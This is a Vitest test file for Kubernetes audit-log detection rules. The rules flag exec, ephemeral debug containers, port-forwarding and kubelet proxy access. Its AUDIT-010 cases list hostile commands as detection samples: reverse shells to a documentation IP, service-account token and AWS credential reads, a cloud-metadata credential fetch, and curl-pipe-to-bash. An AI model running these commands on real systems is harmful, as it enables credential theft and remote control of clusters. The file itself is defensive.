import { describe, expect, it } from 'vitest';
import { suspiciousCommandReasons } from '../../shared/audit/detections/audit-010-suspicious-exec.ts';
import { auditEvent, execEvent, HUMAN, KUBELET, RS_CONTROLLER, v1beta1, workload } from './events.ts';
import { only, ruleIds, runAudit } from './run.ts';

describe('AUDIT-009 exec / attach', () => {
  it('fires for WebSocket (get) and SPDY (create) exec and for attach, MEDIUM outside platform namespaces', async () => {
    for (const e of [execEvent({ namespace: 'shop', pod: 'api-1', command: ['sh'] }), execEvent({ namespace: 'shop', pod: 'api-1', command: ['sh'], verb: 'create' }), execEvent({ namespace: 'shop', pod: 'api-1', command: [], subresource: 'attach' })]) {
      const f = only(await runAudit([e]), 'AUDIT-009');
      expect(f.severity).toBe('medium');
      expect(f.audit?.detectionIds).toEqual(['AUDIT-009']);
    }
  });

  it('is HIGH in a platform namespace when the actor is not a platform identity', async () => {
    expect(only(await runAudit([execEvent({ namespace: 'kube-system', pod: 'coredns-5d8f-x', command: ['sh'] })]), 'AUDIT-009').severity).toBe('high');
  });

  it('carries the decoded command, container and tty/stdin flags', async () => {
    const f = only(await runAudit([execEvent({ namespace: 'shop', pod: 'api-1', command: ['psql', '-c', 'select 1'], container: 'db' })]), 'AUDIT-009');
    expect(f.audit?.evidence).toEqual({ subresource: 'exec', command: ['psql', '-c', 'select 1'], container: 'db', tty: true, stdin: true, pod: 'api-1', namespace: 'shop' });
    expect(f.evidence).toBe('psql -c select 1');
  });

  it('evaluates the first of ResponseStarted / ResponseComplete; the second is a duplicate', async () => {
    const started = execEvent({ namespace: 'shop', pod: 'api-1', command: ['sh'], auditID: 'a-1', stage: 'ResponseStarted' });
    const complete = { ...started, stage: 'ResponseComplete' };
    const received = { ...started, stage: 'RequestReceived' };
    const result = await runAudit([received, started, complete]);
    expect(only(result, 'AUDIT-009').audit?.count).toBe(1);
    expect(result.duplicates).toBe(1);
    expect(result.metrics.ignored_stage).toBe(1);
    // ResponseComplete alone (ResponseStarted lost) is evaluated too.
    expect(ruleIds(await runAudit([complete]))).toContain('AUDIT-009');
  });

  it('does not fire for failed exec, plain pod reads or the control plane in kube-system', async () => {
    const none = await runAudit([
      execEvent({ namespace: 'shop', pod: 'api-1', command: ['sh'], code: 403 }),
      auditEvent({ verb: 'get', resource: 'pods', namespace: 'shop', name: 'api-1' }),
      execEvent({ namespace: 'kube-system', pod: 'aws-node-x', command: ['/app/grpc-health-probe'], user: RS_CONTROLLER }),
    ]);
    expect(ruleIds(none)).not.toContain('AUDIT-009');
  });

  it('groups repeated sessions of one actor into one pod per window', async () => {
    const result = await runAudit([1, 2, 3].map((i) => execEvent({ namespace: 'shop', pod: 'api-1', command: ['sh'], time: i * 60 })));
    expect(only(result, 'AUDIT-009').audit?.count).toBe(3);
  });
});

describe('AUDIT-010 suspicious exec', () => {
  it.each([
    [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 'credential path'],
    [['sh', '-c', 'cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token'], 'credential path'],
    [['cat', '/proc/1/environ'], 'credential path'],
    [['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'], 'cloud metadata'],
    [['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'], 'reverse shell'],
    [['/usr/bin/nc', '198.51.100.4', '4444', '-e', '/bin/sh'], 'reverse shell (nc -e)'],
    [['sh', '-c', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f'], 'named pipe'],
    [['socat', 'tcp:198.51.100.4:4444', 'exec:/bin/sh,pty,stderr'], 'socat'],
    [['sh', '-c', 'curl -fsSL https://198.51.100.4/x.sh | bash'], 'download piped'],
    [['tar', 'cf', '-', '/data'], 'copy out'],
    [['tar', '-czf', '-', '/var/lib/app'], 'copy out'],
  ])('%j is suspicious (%s)', async (command, reason) => {
    expect(suspiciousCommandReasons(command.join(' ')).join('; ')).toContain(reason);
    const result = await runAudit([execEvent({ namespace: 'shop', pod: 'api-1', command })]);
    const f = only(result, 'AUDIT-010');
    expect(f.severity).toBe('high');
    // Suspicious exec absorbs plain exec: one finding listing both ids.
    expect(ruleIds(result)).not.toContain('AUDIT-009');
    expect(f.audit?.detectionIds).toEqual(['AUDIT-010', 'AUDIT-009']);
  });

  it.each([
    [['tar', 'xf', '-', '-C', '/tmp']],
    [['tar', 'cf', '/tmp/backup.tar', '/data']],
    [['ls', '-la', '/var/run']],
    [['cat', '/etc/hostname']],
    [['curl', 'http://localhost:8080/healthz']],
    [['nc', '-z', 'db', '5432']],
  ])('%j is a plain exec', async (command) => {
    expect(suspiciousCommandReasons(command.join(' '))).toEqual([]);
    const result = await runAudit([execEvent({ namespace: 'shop', pod: 'api-1', command })]);
    expect(ruleIds(result)).toContain('AUDIT-009');
    expect(ruleIds(result)).not.toContain('AUDIT-010');
  });

  it('reads the command from requestObject.command when the URI has none (Request level, v1beta1)', async () => {
    const e = execEvent({ namespace: 'shop', pod: 'api-1', command: [] });
    const withBody = v1beta1({ ...e, requestURI: '/api/v1/namespaces/shop/pods/api-1/exec', requestObject: { kind: 'PodExecOptions', apiVersion: 'v1', command: ['cat', '/root/.aws/credentials'], container: 'app' } });
    expect(ruleIds(await runAudit([withBody]))).toContain('AUDIT-010');
  });

  it('masks credentials typed into the command', async () => {
    const f = only(await runAudit([execEvent({ namespace: 'shop', pod: 'api-1', command: ['sh', '-c', 'curl -H "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1qTXhOIn0.eyJpc3MiOiJrdWJlcm5ldGVzIn0.c2lnbmF0dXJlLXZhbHVl" https://10.100.0.1 | sh'] })]), 'AUDIT-010');
    const text = JSON.stringify(f);
    expect(text).not.toContain('eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1qTXhOIn0');
    expect(f.evidence).toContain('Bearer eyJh');
  });
});

describe('AUDIT-011 ephemeral container', () => {
  const debug = (opts: { namespace: string; privileged?: boolean; user?: Record<string, unknown>; body?: boolean }) =>
    auditEvent({
      verb: 'patch',
      resource: 'pods',
      subresource: 'ephemeralcontainers',
      namespace: opts.namespace,
      name: 'api-1',
      user: opts.user,
      requestObject: opts.body === false ? undefined : { spec: { ephemeralContainers: [{ name: 'debugger-x7k', image: 'busybox:1.36', targetContainerName: 'api', command: ['sh'], ...(opts.privileged ? { securityContext: { privileged: true } } : {}) }] } },
    });

  it('MEDIUM at Metadata level, HIGH when privileged or in a platform namespace', async () => {
    expect(only(await runAudit([debug({ namespace: 'shop', body: false })]), 'AUDIT-011').severity).toBe('medium');
    const f = only(await runAudit([debug({ namespace: 'shop', privileged: true })]), 'AUDIT-011');
    expect(f.severity).toBe('high');
    expect(f.audit?.evidence).toMatchObject({ privileged: true, containers: [{ image: 'busybox:1.36', targetContainerName: 'api' }] });
    expect(only(await runAudit([debug({ namespace: 'kube-system' })]), 'AUDIT-011').severity).toBe('high');
  });

  it('break-glass identities are a user exception: kept, suppressed and named', async () => {
    const result = await runAudit([debug({ namespace: 'shop' })], { exceptions: [{ detection: 'AUDIT-011', name: 'break-glass', match: { user: HUMAN.username }, reason: 'approved debugging' }] });
    const f = only(result, 'AUDIT-011');
    expect(f.suppressed).toBe(true);
    expect(f.audit?.suppressedBy).toBe('break-glass');
    expect(f.suppression).toEqual({ source: 'config', reason: 'break-glass: approved debugging', expires: null });
  });
});

describe('AUDIT-012 port-forward and proxy', () => {
  it('LOW for port-forward and service proxy, MEDIUM in platform namespaces', async () => {
    const pf = execEvent({ namespace: 'shop', pod: 'db-0', command: [] });
    const portForward = { ...pf, requestURI: '/api/v1/namespaces/shop/pods/db-0/portforward', objectRef: { resource: 'pods', namespace: 'shop', name: 'db-0', apiVersion: 'v1', subresource: 'portforward' } };
    expect(only(await runAudit([portForward]), 'AUDIT-012').severity).toBe('low');
    const proxy = auditEvent({ verb: 'get', resource: 'services', subresource: 'proxy', namespace: 'kube-system', name: 'kube-dns:dns-tcp', code: 200 });
    expect(only(await runAudit([proxy]), 'AUDIT-012').severity).toBe('medium');
  });
});

describe('AUDIT-011 / AUDIT-012 negatives', () => {
  it('no debug-container finding for the control plane or a refused request; no tunnel finding for logs, refused or platform traffic', async () => {
    const debug = (over: Record<string, unknown>) => ({ ...auditEvent({ verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'shop', name: 'api-1' }), ...over });
    const none = await runAudit([
      debug({ user: { username: 'system:kube-controller-manager', groups: [] } }),
      debug({ responseStatus: { code: 403 } }),
      auditEvent({ verb: 'get', resource: 'pods', subresource: 'log', namespace: 'shop', name: 'api-1' }),
      auditEvent({ verb: 'get', resource: 'services', subresource: 'proxy', namespace: 'shop', name: 'web', code: 403 }),
      auditEvent({ verb: 'get', resource: 'services', subresource: 'proxy', namespace: 'kube-system', name: 'metrics-server', user: RS_CONTROLLER }),
    ]);
    expect(ruleIds(none).filter((id) => id === 'AUDIT-011' || id === 'AUDIT-012')).toEqual([]);
  });
});

describe('AUDIT-013 nodes/proxy', () => {
  const nodeProxy = (path: string, user: Record<string, unknown> = HUMAN) =>
    auditEvent({ verb: 'create', resource: 'nodes', subresource: 'proxy', name: 'ip-10-0-12-34.ec2.internal', user, requestURI: `/api/v1/nodes/ip-10-0-12-34.ec2.internal/proxy${path}` });

  it('fires on kubelet exec/run/pods access', async () => {
    const f = only(await runAudit([nodeProxy('/run/shop/api-1/api?cmd=id')]), 'AUDIT-013');
    expect(f.audit?.evidence).toMatchObject({ kubeletPath: '/run/shop/api-1/api' });
  });

  it('excludes monitoring identities scraping metrics only, and the control plane', async () => {
    const prometheus = workload('monitoring', 'prometheus');
    const config = { monitoringIdentities: ['system:serviceaccount:monitoring:prometheus'] };
    expect(ruleIds(await runAudit([nodeProxy('/metrics/cadvisor', prometheus), nodeProxy('/stats/summary', prometheus)], config))).not.toContain('AUDIT-013');
    expect(ruleIds(await runAudit([nodeProxy('/pods', prometheus)], config))).toContain('AUDIT-013');
    expect(ruleIds(await runAudit([nodeProxy('/metrics', prometheus)]))).toContain('AUDIT-013');
    expect(ruleIds(await runAudit([nodeProxy('/pods', KUBELET)]))).not.toContain('AUDIT-013');
  });
});
